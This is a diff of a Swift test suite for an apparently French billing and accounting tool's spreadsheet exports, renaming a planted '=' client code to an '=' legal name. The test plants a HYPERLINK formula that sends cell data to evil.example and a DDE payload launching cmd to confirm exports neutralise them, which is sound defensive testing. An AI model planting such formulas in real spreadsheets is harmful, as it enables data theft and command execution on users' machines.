@@ -10,7 +10,8 @@ struct SpreadsheetTests {
     static let days = ["2025-07-01", "2025-08-01", "2025-09-01", "2025-10-01"]
     static let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez ici\")"
     static let dde = "@SUM(1+1)*cmd|' /C calc'!A0"
-    static let clientCode = "=PHARMABEST"
+    /// Client codes cannot start with `=` (`check` refuses them), but a client's legal name can.
+    static let clientName = "=PharmaBest SARL"
     static let reports = ["outbox/registre-ventes", "outbox/paiements/etat-factures", "outbox/paiements/balance-agee",
                           "outbox/paiements/encaissements-non-rapproches", "outbox/fec/compte-attente"]
 
@@ -69,9 +70,8 @@ struct SpreadsheetTests {
 
     @Test func formulasPlantedInExportsAndConfigurationNeverReachACellAsFormulas() throws {
         let demo = try String(contentsOf: Repository.root.appendingPathComponent("pipelines/demo-conseil.toml"), encoding: .utf8)
-        // The contract id defaults to "<code>-monthly", which must stay a plain identifier.
-        let pipeline = demo.replacingOccurrences(of: "client = \"PHARMABEST\"\n", with: "client = \"PHARMABEST\"\nid = \"PHARMABEST-monthly\"\n")
-            .replacingOccurrences(of: "\"PHARMABEST\"", with: "\"\(Self.clientCode)\"")
+        let pipeline = demo.replacingOccurrences(of: "legal_name = \"PharmaBest SARL\"",
+                                                 with: "legal_name = \"\(Self.clientName)\"")
         let workspace = try TestWorkspace(pipeline: pipeline)
         try workspace.dropDemoFiles()
         let quoted = "\"" + Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\"") + "\""
@@ -93,20 +93,19 @@ struct SpreadsheetTests {
         try workspace.drop("planted-qonto.csv", qontoHeader + "\n" + row.joined(separator: ";") + "\n")
         for day in Self.days { try workspace.run(["run", "--settle", "0", "--date", day]) }
 
-        // The values went in and came back exactly: the time entry was billed to the client whose
-        // code starts with "=", so the ledger's guarded client code was read back as the code.
+        // The values went in and came back exactly (the planted description is on the annex of the
+        // client's invoice), and the legal name that starts with "=" is guarded in every report.
         let annexes = workspace.files(under: "outbox/invoices").filter { $0.hasSuffix("-annexe.csv") }
         let annex = try #require(try annexes.first { try workspace.text($0).contains("Cliquez ici") }, "\(annexes)")
         let checked: [(file: String, planted: String)] = [
             (annex, Self.hyperlink),
             ("outbox/time-entries/2025-07.csv", Self.hyperlink),
             ("archive/ledgers/demo-conseil/time-entries/2025-07.csv", Self.hyperlink),
-            ("outbox/time-entries/2025-07.csv", Self.clientCode),
             ("outbox/bank-transactions/2025-08.csv", Self.dde),
             ("outbox/fec/compte-attente.csv", Self.dde),
             ("outbox/paiements/encaissements-non-rapproches.csv", Self.dde),
-            ("outbox/registre-ventes.csv", Self.clientCode),
-            ("outbox/paiements/etat-factures.csv", Self.clientCode),
+            ("outbox/registre-ventes.csv", Self.clientName),
+            ("outbox/paiements/etat-factures.csv", Self.clientName),
         ]
         for (file, planted) in checked {
             let rows = SimpleCSV.parse(try workspace.text(file))
@@ -116,7 +115,7 @@ struct SpreadsheetTests {
             for cell in cells { #expect(!Self.startsLikeAFormula(cell), "\(file): \(cell.debugDescription)") }
         }
         let register = try workspace.csvRecords("outbox/registre-ventes.csv")
-        #expect(register.contains { $0["client_code"] == "'" + Self.clientCode && $0["total_excl_vat"]?.isEmpty == false })
+        #expect(register.contains { $0["client_name"] == "'" + Self.clientName && $0["client_code"] == "PHARMABEST" })
 
         // In LibreOffice: no formula anywhere; the workbooks hold the exact texts as strings.
         let files = Self.productFiles(workspace)
@@ -129,7 +128,7 @@ struct SpreadsheetTests {
             .appendingPathComponent("outbox/paiements/encaissements-non-rapproches.xlsx").path])
         #expect(unmatched.cells.contains { $0.type == "string" && $0.text == Self.dde })
         let registerSheet = try #require(sheets[workspace.root.appendingPathComponent("outbox/registre-ventes.xlsx").path])
-        #expect(registerSheet.column(3).contains { $0.type == "string" && $0.text == Self.clientCode })
+        #expect(registerSheet.column(4).contains { $0.type == "string" && $0.text == Self.clientName })
     }
 
     @Test func anEditedWorkbookIsLeftAloneAndItsUpdateDeliveredBesideIt() throws {
